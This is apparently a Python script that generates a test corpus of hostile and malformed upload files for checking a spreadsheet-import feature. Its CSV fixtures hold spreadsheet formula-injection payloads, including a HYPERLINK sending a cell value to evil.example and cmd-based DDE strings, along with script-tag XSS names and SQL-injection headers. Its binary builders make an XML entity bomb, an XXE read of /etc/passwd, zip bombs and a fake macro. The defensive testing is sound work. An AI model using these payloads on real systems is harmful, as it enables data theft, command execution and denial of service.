"""The bad-upload corpus: every hostile or malformed input of RELIABILITY.md, and a few good ones.

    python tests/exposures/badfiles/make_corpus.py      # rewrites the committed text files

Small text files are committed beside this script (``TEXT_FILES``; a test checks they match).
Binary files (workbooks, zip and XML bombs, Parquet) are built by ``BINARY_FILES`` into a
temporary folder by the tests, never committed. The expected outcome of each file is asserted in
``tests/exposures/upload/test_corpus.py``.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

ASSET_HEADER = (
    "asset_id,name,asset_type,lat,lon,city,country,value_usd,criticality,headcount,"
    "service_id,mitigations"
)
GOOD_ROW = "A1,London office,office,51.5072,-0.1276,London,GBR,25000000,4,350,payments,insurance"
ROUTE_HEADER = (
    "route_id,name,origin,destination,commodity,annual_value_usd,shipments_per_year,service_id,"
    "criticality"
)


def _csv(*lines: str, header: str = ASSET_HEADER, newline: str = "\n") -> str:
    return newline.join([header, *lines]) + newline


UNICODE_CSV = _csv(
    "A1,Société Générale,office,,,Zürich,CHE,1000000,3,10,,",
    "A2,Café «Noël» – Málaga,retail_store,,,Málaga,ESP,250000,2,5,,",
)

TEXT_FILES: dict[str, bytes] = {
    "empty.csv": b"",
    "blank_lines.csv": b"\n  \n\r\n\t\n",
    "header_only.csv": (ASSET_HEADER + "\n").encode(),
    "valid_assets.csv": _csv(
        GOOD_ROW,
        "A2,Rotterdam warehouse,Warehouse,,,Rotterdam,Netherlands,1200000,3,,,"
        "backup site; insurance",
        'A3,Dubai data centre,Data Centre,25.2048,55.2708,,,"4,500,000",5,40,cloud,',
    ).encode(),
    "wrong_types.csv": _csv(
        "A1,Plant one,plant,51.5,-0.1,,GBR,abc,high,3.5,,",
        "A2,Plant two,plant,51.5,-0.1,,GBR,12 apples,4,-,,",
        "A3,Plant three,factori,north,-0.1,,GBR,100,3,7,,",
    ).encode(),
    "out_of_range_coordinates.csv": _csv(
        "A1,North of the pole,office,95,10,,,100,3,,,",
        "A2,Off the map,office,-45,-200,,,100,3,,,",
        "A3,Fine,office,-90,180,,,100,3,,,",
    ).encode(),
    "unknown_country.csv": _csv(
        "A1,Lost city,office,,,,Atlantis,100,3,,,", "A2,Paris office,office,,,Paris,France,100,3,,,"
    ).encode(),
    "unknown_port.csv": _csv(
        "R1,To nowhere,Atlantis Harbour,NLRTM,crude_oil,1000000,12,,",
        "R2,Gulf to Europe,SARTA,Rotterdam,crude_oil,1000000,12,,",
        'R3,By position,"26.64, 50.16","51.95, 4.05",lng,500000,6,,',
        header=ROUTE_HEADER,
    ).encode(),
    "duplicate_ids.csv": _csv(
        GOOD_ROW, "A2,Second,office,1,1,,,100,3,,,", GOOD_ROW.replace("London office", "Again")
    ).encode(),
    "ragged_rows.csv": _csv(
        GOOD_ROW, "A2,Short row,office,1,1", "A3,Long row,office,1,1,,,100,3,,,,x,y"
    ).encode(),
    "unbalanced_quote.csv": _csv(
        GOOD_ROW, 'A2,"Unclosed name,office,1,1,,,100,3,,,', "A3,Next,office,1,1,,,100,3,,,"
    ).encode(),
    "quote_then_text.csv": _csv(GOOD_ROW, 'A2,"Quoted"tail,office,1,1,,,100,3,,,').encode(),
    "embedded_newlines.csv": _csv(
        'A1,"London office\nsecond line\r\nthird line",office,51.5,-0.12,,,100,3,,,',
        "A2,Next row,office,52,0,,,100,3,,,",
        "A3,Bad value,office,52,0,,,oops,3,,,",
    ).encode(),
    "utf8_bom.csv": b"\xef\xbb\xbf" + UNICODE_CSV.encode("utf-8"),
    "utf16le_bom.csv": b"\xff\xfe" + UNICODE_CSV.encode("utf-16-le"),
    "utf16be_bom.csv": b"\xfe\xff" + UNICODE_CSV.encode("utf-16-be"),
    "utf16le_nobom.csv": UNICODE_CSV.encode("utf-16-le"),
    "utf16be_nobom.csv": UNICODE_CSV.encode("utf-16-be"),
    "cp1252.csv": UNICODE_CSV.replace("\n", "\r\n").encode("cp1252"),
    "invalid_utf8.csv": UNICODE_CSV.encode("utf-8").replace(b"Caf\xc3\xa9", b"Caf\xff"),
    "binary_garbage.csv": bytes(range(128, 256)) * 4,
    "nul_bytes.csv": _csv(GOOD_ROW, "A2,Nul\x00name,office,1,1,,,100,3,,,").encode(),
    "decimal_commas.csv": _csv(
        "A1;Lyon;office;45,764;4,8357;;FRA;1.234.567,89;3;12;;",
        'A2;Lille;office;50,6292;3,0573;;FRA;"12,5";2;;;',
        "A3;Nice;office;43.7102;7.262;;FRA;1 500 000;2;;;",
        header=ASSET_HEADER.replace(",", ";"),
    ).encode(),
    "tab_delimited.tsv": _csv(
        GOOD_ROW.replace(",", "\t"), header=ASSET_HEADER.replace(",", "\t")
    ).encode(),
    "sep_hint.csv": (
        "sep=;\n" + _csv(GOOD_ROW.replace(",", ";"), header=ASSET_HEADER.replace(",", ";"))
    ).encode(),
    "nan_inf.csv": _csv(
        "A1,Nan value,office,51,0,,,NaN,3,,,",
        "A2,Inf value,office,51,0,,,inf,3,,,",
        "A3,Neg inf lat,office,-inf,0,,,100,3,,,",
        "A4,Overflow,office,51,0,,,1e309,3,,,",
        "A5,Huge but finite,office,51,0,,,1e308,3,,,",
    ).encode(),
    "formula_payloads.csv": _csv(
        'F1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",office,51,0,,,100,3,,,',
        "F2,+cmd|' /C calc'!A0,office,51,0,,,100,3,,,",
        "F3,@SUM(1+1)*cmd|' /C calc'!A0,office,51,0,,,100,3,,,",
        'F4,"\tleading tab",office,51,0,,,100,3,,,',
        "F5,-2+3+cmd|' /C calc'!A0,office,51,0,,,-5,3,,,",
    ).encode(),
    "html_names.csv": _csv(
        "H1,<script>alert(1)</script>,office,51,0,,,100,3,,,",
        'H2,"<img src=x onerror=""alert(1)"">",office,51,0,,,100,3,,,',
    ).encode(),
    "duplicate_headers.csv": (
        b"asset_id,Name,Site name,asset_type,country,value_usd,criticality\n"
        b"A1,One,Uno,office,GBR,100,3\n"
    ),
    "duplicate_unknown_headers.csv": (
        b"asset_id,name,asset_type,country,value_usd,criticality,Notes,Notes\n"
        b"A1,One,office,GBR,100,3,a,b\n"
    ),
    "sql_headers.csv": (
        b'asset_id,name,asset_type,country,value_usd,criticality,"x; DROP TABLE assets;--",'
        b"Robert'); DROP TABLE clients;--,SELECT * FROM clients\n"
        b"A1,One,office,GBR,100,3,a,b,c\n"
    ),
    "sql_header_instead_of_name.csv": (
        b'asset_id,"name; DROP TABLE assets",asset_type,country,value_usd,criticality\n'
        b"A1,One,office,GBR,100,3\n"
    ),
    "rtl_zero_width_ids.csv": _csv(
        "A\u200b1,Zero width,office,51,0,,,100,3,,,",
        "\u202eA2,Right to left override,office,51,0,,,100,3,,,",
        "A3\u200f,RLM mark,office,51,0,,,100,3,,,",
        "A1,Clash with the first once cleaned,office,51,0,,,100,3,,,",
        "A5,\u202eeman desrever,office,51,0,,,100,3,,,",
    ).encode(),
    "header_variants.csv": (
        b"Site ID,Site Name,Site type,LAT,lng,Town,Country code,Replacement value,Tier,Employees,"
        b"Service,Mitigations,Lattitude note\n"
        b"S1,Head office,office,51.5,-0.12,London,GB,1000,5,10,pay,continuity plan,x\n"
    ),
    "missing_required.csv": (
        b"asset_id,name,asset_type,country,Valeu,criticality\nA1,One,office,GBR,100,3\n"
    ),
    "not_locatable.csv": _csv(
        "A1,Nowhere,office,,,,,100,3,,,",
        "A2,Half coordinates,office,51.5,,,,100,3,,,",
        "A3,City only,office,,,London,,100,3,,,",
    ).encode(),
    "bad_choices.csv": _csv(
        "A1,One,wharehouse,51,0,,,100,3,,,",
        "A2,Two,plant,51,0,,,100,3,,,backup site; flood wall",
        "A3,Three,plant,51,0,,,100,0,-4,,",
    ).encode(),
    "valid_routes.csv": _csv(
        "R1,Ras Tanura to Rotterdam,SARTA,NLRTM,Crude oil,1200000000,24,energy,5",
        "R2,Qatar LNG to Tokyo,Ras Laffan,JPTYO,LNG,800000000,12,,",
        header=ROUTE_HEADER,
    ).encode(),
    "route_header_variants.csv": (
        b"Lane,Route name,POL,POD,Cargo,Annual value,Sailings,Service,Tier\n"
        b"L1,Singapore to Shanghai,SGSIN,CNSHA,containers,5000000,52,,2\n"
    ),
    "html_document.csv": (
        b"<!DOCTYPE html><html><body><table><tr><td>x</td></tr></table></body></html>"
    ),
    "pdf_named.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "exe_named.csv": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00",
    "elf_named.csv": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "gzip_named.csv": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 10,
}


# --------------------------------------------------------------------------------------------
# Binary files, built by the tests


def _workbook(
    rows: list[list[object]],
    *,
    dates: dict[tuple[int, int], object] | None = None,
    second_sheet: bool = False,
) -> bytes:
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(
        buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
    )
    sheet = book.add_worksheet("Assets")
    date_format = book.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                sheet.write_string(r, c, value)
            else:
                sheet.write_number(r, c, float(value))  # type: ignore[arg-type]
    for (r, c), value in (dates or {}).items():
        sheet.write_datetime(r, c, value, date_format)
    if second_sheet:
        book.add_worksheet("Notes").write_string(0, 0, "ignored")
    book.close()
    return buf.getvalue()


XLSX_HEADER: list[object] = list(ASSET_HEADER.split(","))


def _good_rows() -> list[list[object]]:
    return [
        XLSX_HEADER,
        [
            "A1",
            "London office",
            "office",
            51.5072,
            -0.1276,
            "London",
            "GBR",
            25000000,
            4,
            350,
            "payments",
            "insurance",
        ],
        [
            1001,
            '=HYPERLINK("http://evil.example","x")',
            "plant",
            48.85,
            2.35,
            None,
            "FRA",
            1234.5,
            3,
            0,
            None,
            None,
        ],
    ]


def _rewrite(
    data: bytes,
    replace: dict[str, bytes | None],
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as dst:
        for info in src.infolist():
            if info.filename in replace:
                new = replace[info.filename]
                if new is not None:
                    dst.writestr(info.filename, new)
            else:
                dst.writestr(info.filename, src.read(info.filename))
        for name, content in (add or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def _sheet_xml(data: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def valid_xlsx() -> bytes:
    return _workbook(_good_rows(), second_sheet=True)


def offset_xlsx() -> bytes:
    """The table starts at C4 (blank rows and columns above and left)."""
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_blank(0, 0, None, book.add_format({"bold": True}))
    for r, row in enumerate(_good_rows()):
        for c, value in enumerate(row):
            if isinstance(value, str):
                sheet.write_string(3 + r, 2 + c, value)
            elif value is not None:
                sheet.write_number(3 + r, 2 + c, float(value))  # type: ignore[arg-type]
    book.close()
    return buf.getvalue()


def excel_dates_xlsx() -> bytes:
    import datetime

    rows: list[list[object]] = [
        *_good_rows()[:2],
        ["D1", "Dated value", "office", 51.0, 0.0, None, None, None, None, 43833, None, None],
    ]
    return _workbook(
        rows,
        dates={(2, 7): datetime.datetime(2020, 1, 3), (2, 8): datetime.datetime(1900, 1, 3)},
    )


def zip_bomb_xlsx() -> bytes:
    return _rewrite(valid_xlsx(), {}, add={"xl/media/image1.png": b"\x00" * (20 * 1024 * 1024)})


def lying_zip_xlsx() -> bytes:
    """A member whose central-directory entry claims 300 MB (never decompressed)."""
    data = bytearray(_rewrite(valid_xlsx(), {}, compression=zipfile.ZIP_STORED))
    central = data.rfind(b"PK\x01\x02")
    # Patch the last central-directory entry's uncompressed size (offset 24 in the header).
    struct.pack_into("<I", data, central + 24, 300 * 1024 * 1024)
    return bytes(data)


def many_entries_xlsx() -> bytes:
    return _rewrite(valid_xlsx(), {}, add={f"xl/media/pad{i}.bin": b"x" for i in range(200)})


def xml_bomb_xlsx() -> bytes:
    entities = (
        '<!ENTITY lol "lol"><!ENTITY lol1 "'
        + "&lol;" * 10
        + '">'
        + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10))
    )
    bomb = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE lolz [{entities}]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    return _rewrite(valid_xlsx(), {"xl/worksheets/sheet1.xml": bomb})


def external_entity_xlsx() -> bytes:
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&e;</t></si></sst>'
    )
    return _rewrite(valid_xlsx(), {"xl/sharedStrings.xml": xxe})


def huge_dimension_xlsx() -> bytes:
    data = valid_xlsx()
    sheet = _sheet_xml(data)
    start = sheet.index(b"<dimension ref=")
    end = sheet.index(b"/>", start) + 2
    sheet = sheet[:start] + b'<dimension ref="A1:XFD1048576"/>' + sheet[end:]
    return _rewrite(data, {"xl/worksheets/sheet1.xml": sheet})


def far_cell_xlsx() -> bytes:
    data = valid_xlsx()
    sheet = _sheet_xml(data).replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    return _rewrite(data, {"xl/worksheets/sheet1.xml": sheet})


def wide_far_cell_xlsx() -> bytes:
    data = valid_xlsx()
    sheet = _sheet_xml(data).replace(
        b"</sheetData>", b'<row r="5000"><c r="XFD5000"><v>1</v></c></row></sheetData>'
    )
    return _rewrite(data, {"xl/worksheets/sheet1.xml": sheet})


def macro_xlsm() -> bytes:
    return _rewrite(valid_xlsx(), {}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0fake vba"})


def _ole(stream_name: str) -> bytes:
    """An OLE compound file header and a directory entry naming ``stream_name``."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    header = header.ljust(512, b"\xff")
    entry = stream_name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
    return header + entry + b"\x00" * 384


def encrypted_xlsx() -> bytes:
    return _ole("EncryptedPackage")


def legacy_xls() -> bytes:
    return _ole("Workbook")


def word_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def opendocument_ods() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("assets.csv", ASSET_HEADER + "\n" + GOOD_ROW + "\n")
    return out.getvalue()


def damaged_zip() -> bytes:
    return b"PK\x03\x04" + b"\x14\x00" + b"garbage" * 20


def _parquet() -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table(
        {
            "asset_id": ["P1", "P2", "P3"],
            "name": ["Parquet one", "Parquet two", "Parquet three"],
            "asset_type": ["office", "plant", "spaceport"],
            "lat": [51.5, 48.85, None],
            "lon": [-0.12, 2.35, None],
            "country": ["GBR", "FRA", "USA"],
            "value_usd": [1.0e6, 2.5e6, 3.0],
            "criticality": pa.array([3, 4, 2], pa.int64()),
        }
    )
    buf = io.BytesIO()
    pq.write_table(table, buf, compression="snappy")
    return buf.getvalue()


def valid_parquet() -> bytes:
    return _parquet()


def truncated_parquet() -> bytes:
    data = _parquet()
    return data[: len(data) // 2]


def corrupt_parquet() -> bytes:
    data = bytearray(_parquet())
    footer_len = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - footer_len
    for i in range(start, start + min(footer_len, 64)):
        data[i] ^= 0xA5
    return bytes(data)


BINARY_FILES: dict[str, Callable[[], bytes]] = {
    "valid.xlsx": valid_xlsx,
    "offset_table.xlsx": offset_xlsx,
    "excel_dates.xlsx": excel_dates_xlsx,
    "zip_bomb.xlsx": zip_bomb_xlsx,
    "lying_zip.xlsx": lying_zip_xlsx,
    "many_entries.xlsx": many_entries_xlsx,
    "xml_bomb.xlsx": xml_bomb_xlsx,
    "external_entity.xlsx": external_entity_xlsx,
    "huge_dimension.xlsx": huge_dimension_xlsx,
    "far_cell.xlsx": far_cell_xlsx,
    "wide_far_cell.xlsx": wide_far_cell_xlsx,
    "macro.xlsm": macro_xlsm,
    "encrypted.xlsx": encrypted_xlsx,
    "legacy.xls": legacy_xls,
    "word.docx": word_docx,
    "opendocument.ods": opendocument_ods,
    "plain.zip": plain_zip,
    "damaged.xlsx": damaged_zip,
    "valid.parquet": valid_parquet,
    "truncated.parquet": truncated_parquet,
    "corrupt.parquet": corrupt_parquet,
}


def write_text_files(folder: Path = HERE) -> list[Path]:
    written = []
    for name, content in TEXT_FILES.items():
        path = folder / name
        path.write_bytes(content)
        written.append(path)
    return written


def write_binary_files(folder: Path) -> dict[str, Path]:
    paths = {}
    for name, build in BINARY_FILES.items():
        path = folder / name
        path.write_bytes(build())
        paths[name] = path
    return paths


if __name__ == "__main__":
    for path in write_text_files():
        sys.stdout.write(f"{path.name}: {path.stat().st_size} bytes\n")
